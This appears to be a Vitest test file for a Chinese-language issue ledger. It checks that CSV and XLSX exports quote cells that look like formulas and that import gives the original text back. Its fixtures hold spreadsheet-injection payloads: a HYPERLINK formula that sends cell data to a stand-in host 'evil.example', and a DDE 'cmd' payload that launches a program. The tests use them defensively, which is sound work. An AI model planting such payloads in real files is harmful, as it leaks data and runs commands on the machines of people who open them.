import { readFileSync } from "node:fs";
import path from "node:path";
import ExcelJS from "exceljs";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { exportLedger } from "../../src/ledger/export-ledger.ts";
import { guardFormula, unguardFormula } from "../../src/ledger/formula-guard.ts";
import { importLedgerFile } from "../../src/ledger/import-ledger.ts";
import { parseCsv } from "../../src/ledger/parse-csv.ts";
import type { Store } from "../../src/store/open-store.ts";
import { SAMPLE_CSV, tempStore, zt } from "./helpers.ts";

describe("guardFormula / unguardFormula", () => {
  it.each<[string, string]>([
    ['=HYPERLINK("http://evil.example/?x="&A1,"点此查看")', `'=HYPERLINK("http://evil.example/?x="&A1,"点此查看")`],
    ["+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"],
    ["-1+1", "'-1+1"],
    ["-5", "'-5"],
    ["@SUM(A1:A9)", "'@SUM(A1:A9)"],
    ["\t=1", "'\t=1"],
    ["\r=1", "'\r=1"],
    ["  =1", "'  =1"],
    // Already quoted: one more quote, so import gives back exactly what was stored.
    ["'=1", "''=1"],
    ["''-2", "'''-2"],
    // Harmless text is left alone.
    ["管网铺设60%", "管网铺设60%"],
    ["'一期'完成", "'一期'完成"],
    ["a=b", "a=b"],
    ["2026-12-05", "2026-12-05"],
    ["", ""],
  ])("%j is written as %j and read back", (text, written) => {
    expect(guardFormula(text)).toBe(written);
    expect(unguardFormula(written)).toBe(text);
  });

  it("leaves a quote that export did not add", () => {
    expect(unguardFormula("'一期'")).toBe("'一期'");
    expect(unguardFormula("'")).toBe("'");
  });
});

describe("export of text that looks like a formula", () => {
  let store: Store;
  let dir: string;
  let cleanup: () => Promise<void>;
  const now = new Date("2026-12-07T23:30:00Z");
  const RISKY = {
    lastReportText: '=HYPERLINK("http://evil.example/?x="&A1,"点此查看")',
    description: "+cmd|' /C calc'!A0",
    measures: "-1+1",
    leader: "@SUM(A1:A9)",
    source: "=1+1",
    category: "'=2",
  };

  beforeAll(async () => {
    ({ store, dir, cleanup } = await tempStore("ledger-formula"));
    const r = await importLedgerFile(store, SAMPLE_CSV, zt, { actor: "管理员", now });
    if (!r.ok) throw new Error("sample did not import");
    await store.issue.update({ where: { code: "ZG-2026-003" }, data: RISKY });
  });
  afterAll(() => cleanup());

  it("writes no CSV cell that Excel would run as a formula", async () => {
    const file = path.join(dir, "out.csv");
    await exportLedger(store, file, { zonedTime: zt, now });
    const records = parseCsv(readFileSync(file, "utf8").slice(1));
    const cells = records.flatMap((r) => r.values);
    expect(cells.filter((c) => /^\s*[=+\-@\t\r]/.test(c))).toEqual([]);
    expect(cells).toContain(`'${RISKY.lastReportText}`);
    expect(cells).toContain("'-1+1");
    expect(cells).toContain("''=2");
  });

  it("writes plain text cells, never formulas, into xlsx", async () => {
    const file = path.join(dir, "out.xlsx");
    await exportLedger(store, file, { zonedTime: zt, now });
    const wb = new ExcelJS.Workbook();
    await wb.xlsx.readFile(file);
    // Below the title, the as-of line and the header; 序号 before 编号.
    const row = wb.worksheets[0]!.getRow(6);
    expect(row.getCell(2).value).toBe("ZG-2026-003");
    // 问题来源, 问题类别, 问题描述, 责任领导, 整改措施, 最新进度: the text itself, as a string cell.
    for (const [col, text] of [[3, RISKY.source], [4, RISKY.category], [5, RISKY.description], [8, RISKY.leader], [12, RISKY.measures], [17, RISKY.lastReportText]] as const) {
      expect(row.getCell(col).type).toBe(ExcelJS.ValueType.String);
      expect(row.getCell(col).value).toBe(text);
    }
  });

  it.each(["back.csv", "back.xlsx"])("imports %s back unchanged", async (name) => {
    const file = path.join(dir, name);
    await exportLedger(store, file, { zonedTime: zt, now });
    const result = await importLedgerFile(store, file, zt, { actor: "管理员", now });
    expect(result).toMatchObject({ ok: true, updated: 0, unchanged: 10 });
    expect(await store.issue.findUniqueOrThrow({ where: { code: "ZG-2026-003" } })).toMatchObject(RISKY);
  });
});
